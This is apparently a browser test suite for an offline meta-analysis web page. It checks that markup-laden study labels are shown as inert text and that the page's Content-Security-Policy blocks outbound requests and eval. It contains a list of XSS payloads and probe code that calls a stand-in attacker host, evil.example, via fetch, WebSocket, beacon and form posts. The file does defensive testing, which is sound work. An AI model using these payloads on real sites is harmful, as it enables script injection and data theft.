// Hostile content: labels full of markup and script are shown as
// text - in the table, the problems list, the forest plot, the exported SVG,
// the saved state and the share link - and nothing runs: no dialog (any
// dialog fails the test), no injected element, no request, no CSP violation.
// And the Content-Security-Policy of dist/metapool.html stays strict: checked
// in the file, and probed in the live page.
'use strict';

const { test, before, after } = require('node:test');
const assert = require('node:assert/strict');
const crypto = require('crypto');
const fs = require('fs');
const s = require('./support');

const LABELS = [
  '<img src=x onerror=alert(1)>',
  '</svg><script>alert(1)</script>',
  '"><svg onload=alert(1)>',
  'javascript:alert(1)',
  '<a href="javascript:alert(1)">click me</a>',
  '<img src=x onerror="window.__pwned=1">',
  "' onmouseover='alert(1)' x='",
  ']]><script>window.__pwned=2</script><![CDATA[',
  '<iframe src="https://evil.example/frame"></iframe>',
  '<img src="https://evil.example/pixel.png">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>*{display:none}</style>',
  '&lt;b&gt;not bold&lt;/b&gt; &amp; &#x3C;',
  '{{constructor.constructor(\'alert(1)\')()}} ${alert(1)}',
  '<!-- <script>alert(1)</script> -->',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
];

// A CSV field for `label`: quoted when it holds a quote or a comma.
const csvField = (label) => (/[",;]/.test(label) ? '"' + label.replace(/"/g, '""') + '"' : label);

const TABLE = ['Study, Events E, Total E, Events C, Total C']
  .concat(LABELS.map((l, i) => [csvField(l), 3 + i, 40 + i, 6 + i, 41 + i].join(', ')))
  .concat(['<img src=x onerror=alert(2)>bad row, five, 10, 2, 20'])
  .join('\n') + '\n';

let b;
let context;

before(async () => {
  b = await s.launch();
  context = await b.newContext();
});

after(async () => {
  if (b) await b.browser.close();
});

// The page's own scripts: those inlined in dist/metapool.html, and the
// wasm's data block (<script type="application/octet-stream">).
const OWN_SCRIPTS = (fs.readFileSync(s.h.distPath, 'utf8').match(/<script[ >]/g) || []).length;

// Elements that markup in a label could have created (any script beyond the
// page's own counts too).
const injected = (page) => page.evaluate((own) => ({
  count: document.querySelectorAll('body img, body iframe, body link, body style, body object, ' +
    'body embed, body svg svg, body foreignObject, a[href^="javascript:" i], [onerror], [onload], [onmouseover]')
    .length + Math.max(0, document.scripts.length - own),
  scripts: document.scripts.length,
  pwned: window.__pwned,
}), OWN_SCRIPTS);

test('hostile labels are text everywhere: table, problems, forest plot, exported SVG, saved state', async () => {
  const page = await b.open(context);
  const scriptsBefore = (await injected(page)).scripts;
  await s.paste(page, TABLE);
  await page.waitForTimeout(400);  // the debounced save

  // The studies table shows every label exactly as pasted.
  assert.deepEqual(await s.tableLabels(page), LABELS);
  assert.match(await page.locator('#counts').innerText(), new RegExp('^k = ' + LABELS.length + ' trials analysed'));

  // The rejected line is listed with its text, literally.
  const problems = await page.locator('#problems li').allTextContents();
  assert.equal(problems.length, 1);
  assert.ok(problems[0].includes('<img src=x onerror=alert(2)>bad row, five, 10, 2, 20'), problems[0]);

  // The forest plot: each label as the text of its row (or its <title> when cut).
  const forestLabels = await page.evaluate(() => Array.from(document.querySelectorAll('#forest svg .study-label'),
    (t) => (t.querySelector('title') ? t.querySelector('title').textContent : t.textContent)));
  assert.deepEqual(forestLabels, LABELS);

  // Hover and click over everything a label reached.
  for (const sel of ['#studies tbody td:nth-child(2)', '#forest svg .study-label', '#problems li code']) {
    const n = await page.locator(sel).count();
    for (let i = 0; i < n; i++) await page.locator(sel).nth(i).hover();
  }
  await page.locator('#studies tbody td:nth-child(2)').first().click();

  const after = await injected(page);
  assert.equal(after.count, 0, 'no element made from a label');
  assert.equal(after.scripts, scriptsBefore, 'no script element added');
  assert.equal(after.pwned, undefined, 'no label script ran');

  // The exported SVG: downloaded, well-formed, inert, with the labels as text.
  const [download] = await Promise.all([page.waitForEvent('download'), page.click('#save-svg')]);
  const svg = fs.readFileSync(await download.path(), 'utf8');
  assert.doesNotMatch(svg, /<(script|img|iframe|foreignObject|link|a|object|embed)[\s>/]/i, 'no such element');
  assert.ok(svg.includes('&lt;img src=x onerror=alert(1)&gt;'), 'markup is escaped in the SVG');
  const parsed = await page.evaluate((text) => {
    const doc = new DOMParser().parseFromString(text, 'image/svg+xml');
    return {
      error: doc.getElementsByTagName('parsererror').length,
      elements: Array.from(new Set(Array.from(doc.querySelectorAll('*'), (e) => e.localName))).sort(),
      attributes: Array.from(new Set(Array.from(doc.querySelectorAll('*'), (e) => e.getAttributeNames()).flat()))
        .filter((a) => /^on|href$/i.test(a)),
      labels: Array.from(doc.querySelectorAll('.study-label'),
        (t) => (t.querySelector('title') ? t.querySelector('title').textContent : t.textContent)),
    };
  }, svg);
  assert.equal(parsed.error, 0, 'the SVG parses');
  assert.deepEqual(parsed.elements.filter((e) => !['svg', 'g', 'text', 'tspan', 'title', 'desc', 'rect', 'line',
    'path', 'polygon', 'polyline', 'circle', 'defs', 'style', 'marker', 'clipPath', 'use', 'metadata'].includes(e)), []);
  assert.deepEqual(parsed.attributes, [], 'no event handler or link attribute');
  assert.deepEqual(parsed.labels, LABELS);

  // The saved state holds the text exactly as pasted.
  const saved = await s.saved(page);
  assert.equal(saved.text, TABLE);

  // After a reload the same labels come back, still as text.
  await page.reload();
  await b.ready(page);
  assert.equal(await page.locator('#data').inputValue(), TABLE);
  assert.deepEqual(await s.tableLabels(page), LABELS);
  assert.equal((await injected(page)).count, 0);
  assert.equal(await page.evaluate(() => window.__pwned), undefined);
  await b.cspViolations(page);
  await page.close();
});

test('hostile labels survive the share link and stay text where it opens', async () => {
  const page = await b.open(context);
  await s.paste(page, TABLE);
  await page.click('#share');
  const link = await page.locator('#share-link').inputValue();
  assert.match(link, /^file:\/\/[^#]*#d=[A-Za-z0-9_-]+$/, 'the fragment is base64url only');
  assert.ok(!/[<>"' ]/.test(link), 'nothing of the labels is readable in the link');
  await b.cspViolations(page);
  await page.close();

  const elsewhere = await b.newContext();  // another browser profile: no saved state
  const opened = await b.open(elsewhere, link);
  assert.equal(await opened.locator('#data').inputValue(), TABLE);
  assert.deepEqual(await s.tableLabels(opened), LABELS);
  assert.equal((await injected(opened)).count, 0);
  assert.equal(await opened.evaluate(() => window.__pwned), undefined);
  await b.cspViolations(opened);
  await elsewhere.close();
});

test('hostile text in the fragment itself is shown as text or ignored', async () => {
  const evil = '<img src=x onerror=alert(1)>';
  const page = await b.open(context, s.pageUrl('#measure=' + encodeURIComponent(evil) + '&' +
    s.jLink('A, 1, 10, 2, 20\n', { 'cc-to': '"><svg onload=alert(1)>' }).slice(1)));
  const note = await page.locator('#state-note').textContent();
  assert.ok(note.includes('measure=' + evil), note);
  assert.ok(note.includes('cc-to="><svg onload=alert(1)>'), note);
  assert.equal(await page.locator('#opt-measure').inputValue(), 'RR', 'unknown values fall back to the default');
  assert.equal((await injected(page)).count, 0);
  await b.cspViolations(page);
  await page.close();
  // A damaged link says so and shows the user's table instead.
  const damaged = await b.open(context, s.pageUrl('#d=<script>alert(1)</script>'));
  assert.match(await damaged.locator('#state-note').textContent(), /^The link could not be opened: the link is damaged/);
  assert.equal((await injected(damaged)).count, 0);
  await b.cspViolations(damaged);
  await damaged.close();
});

test('the CSP in dist/metapool.html is strict and matches the inlined scripts', () => {
  const html = fs.readFileSync(s.h.distPath, 'utf8');
  const metas = html.match(/<meta http-equiv="Content-Security-Policy"[^>]*>/gi) || [];
  assert.equal(metas.length, 1, 'one CSP meta tag');
  assert.ok(html.indexOf(metas[0]) < html.search(/<script/i), 'the CSP comes before any script');
  const content = metas[0].match(/content="([^"]*)"/)[1];
  const csp = new Map(content.split(';').map((d) => d.trim()).filter(Boolean).map((d) => {
    const [name, ...values] = d.split(/\s+/);
    return [name, values];
  }));
  assert.deepEqual(csp.get('default-src'), ["'none'"]);
  assert.deepEqual(csp.get('connect-src'), ["'none'"]);
  assert.deepEqual(csp.get('base-uri'), ["'none'"]);
  assert.deepEqual(csp.get('form-action'), ["'none'"]);
  assert.doesNotMatch(content, /'unsafe-eval'/, "no 'unsafe-eval' anywhere");
  // One exception: workers from a Blob the page made itself (web/analysis_worker.js
  // runs large analyses off the main thread; from file:// a worker cannot come from a file).
  assert.deepEqual(csp.get('worker-src'), ['blob:'], 'workers only from Blobs');
  const others = content.split(';').filter((d) => !/^\s*worker-src\s/.test(d)).join(';');
  assert.doesNotMatch(others, /https?:|\*|'self'|blob:|filesystem:/, 'no source that names a place');
  const scriptSrc = csp.get('script-src');
  assert.ok(scriptSrc, 'script-src is set');
  assert.ok(!scriptSrc.includes("'unsafe-inline'"), "no 'unsafe-inline' in script-src");
  assert.ok(!scriptSrc.includes("'strict-dynamic'"));
  for (const v of scriptSrc) assert.match(v, /^'sha256-[A-Za-z0-9+/]+=*'$|^'wasm-unsafe-eval'$/, v);
  assert.ok(!csp.has('script-src-elem') && !csp.has('script-src-attr'), 'no second script policy');
  // Each hash is one inlined script, and each inlined script has its hash.
  const bodies = Array.from(html.matchAll(/<script>([\s\S]*?)<\/script>/g), (m) => m[1]);
  assert.equal(bodies.length, 4, 'inlined: the wasm loader, the module, the analysis worker and the page (main.js with its imports)');
  const hashes = bodies.map((t) => "'sha256-" + crypto.createHash('sha256').update(t, 'utf8').digest('base64') + "'");
  assert.deepEqual(scriptSrc.filter((v) => v.startsWith("'sha256-")).sort(), hashes.sort());
  assert.doesNotMatch(html, /<script[^>]+src=|<link[^>]+href="(?!data:)|<iframe|<object|<embed/i, 'nothing loaded from elsewhere');
  assert.doesNotMatch(html, /\son(load|error|click|mouseover)=/i, 'no inline event handler');
});

test('in the live page the CSP blocks every way out and every eval', async () => {
  const probeContext = await b.newContext();
  // Not watched: the violations below are provoked on purpose.
  const page = await probeContext.newPage();
  // Chromium reports a request blocked by the CSP as a request that failed
  // ("csp") before it reached the network.
  const requests = new Map();
  page.on('request', (req) => { if (!/^(file|data|blob):/.test(req.url())) requests.set(req, 'sent'); });
  page.on('requestfailed', (req) => { if (requests.has(req)) requests.set(req, req.failure().errorText); });
  await page.goto(s.pageUrl());
  await b.ready(page);
  const routed = b.record.requests.length;
  const results = await page.evaluate(async () => {
    const out = {};
    const attempt = async (name, fn) => {
      try { out[name] = String(await fn()); } catch (e) { out[name] = 'blocked: ' + e.name; }
    };
    await attempt('fetch', () => fetch('https://evil.example/x').then((r) => r.status));
    await attempt('xhr', () => new Promise((resolve, reject) => {
      const x = new XMLHttpRequest();
      x.open('GET', 'https://evil.example/x');
      x.onload = () => resolve(x.status);
      x.onerror = () => reject(new TypeError('xhr failed'));
      x.send();
    }));
    await attempt('beacon', () => navigator.sendBeacon('https://evil.example/b', 'x'));
    await attempt('websocket', () => new Promise((resolve, reject) => {
      const w = new WebSocket('wss://evil.example/w');
      w.onopen = () => resolve('open');
      w.onerror = () => reject(new TypeError('websocket failed'));
    }));
    await attempt('worker from elsewhere', () => new Promise((resolve, reject) => {
      const w = new Worker('data:text/javascript,postMessage(1)');
      w.onmessage = () => resolve('ran');
      w.onerror = () => reject(new TypeError('worker failed'));
    }));
    await attempt('eval', () => eval('"ran"'));
    await attempt('Function', () => new Function('return "ran"')());
    await attempt('setTimeout string', () => new Promise((resolve) => {
      window.__timeoutRan = false;
      setTimeout('window.__timeoutRan = true', 0);
      setTimeout(() => resolve(window.__timeoutRan ? 'ran' : 'did not run'), 50);
    }));
    // Markup injected by some future bug: its handler and its image are blocked.
    await attempt('inline handler', () => new Promise((resolve) => {
      document.body.insertAdjacentHTML('beforeend', '<img id="probe" src="https://evil.example/i.png" onerror="window.__pwned=9">');
      setTimeout(() => resolve(window.__pwned === 9 ? 'ran' : 'did not run'), 200);
    }));
    await attempt('inline script', () => new Promise((resolve) => {
      const sc = document.createElement('script');
      sc.textContent = 'window.__pwned = 10';
      document.body.appendChild(sc);
      setTimeout(() => resolve(window.__pwned === 10 ? 'ran' : 'did not run'), 50);
    }));
    await attempt('form', () => new Promise((resolve) => {
      const f = document.createElement('form');
      f.action = 'https://evil.example/f';
      f.method = 'post';
      document.body.appendChild(f);
      f.submit();
      setTimeout(() => resolve('submitted?'), 200);
    }));
    await new Promise((r) => setTimeout(r, 200));
    out.violations = (window.__cspViolations || []).map((v) => v.split(' ')[0]).sort();
    out.connectViolations = out.violations.filter((v) => v === 'connect-src').length;
    return out;
  });
  assert.match(results.fetch, /^blocked/);
  assert.match(results.xhr, /^blocked/);
  assert.match(results.websocket, /^blocked/);
  assert.match(results['worker from elsewhere'], /^blocked/);
  assert.match(results.eval, /^blocked: EvalError/);
  assert.match(results.Function, /^blocked: EvalError/);
  assert.equal(results['setTimeout string'], 'did not run');
  assert.equal(results['inline handler'], 'did not run');
  assert.equal(results['inline script'], 'did not run');
  assert.ok(results.connectViolations >= 4, 'fetch, XHR, beacon and WebSocket each blocked: ' +
    JSON.stringify(results.violations));
  for (const d of ['connect-src', 'img-src', 'script-src-attr', 'script-src-elem', 'form-action']) {
    assert.ok(results.violations.includes(d), d + ' reported a violation: ' + JSON.stringify(results.violations));
  }
  const outcomes = Array.from(requests, ([req, outcome]) => req.url() + ' ' + outcome);
  for (const o of outcomes) assert.match(o, / (csp|net::ERR_BLOCKED_BY_CSP)$/, 'blocked by the CSP: ' + JSON.stringify(outcomes));
  assert.equal(b.record.requests.length, routed, 'nothing was routed out');
  await probeContext.close();
});

test('no dialog, no request, no error, no CSP violation in normal use', () => {
  b.assertClean();
});
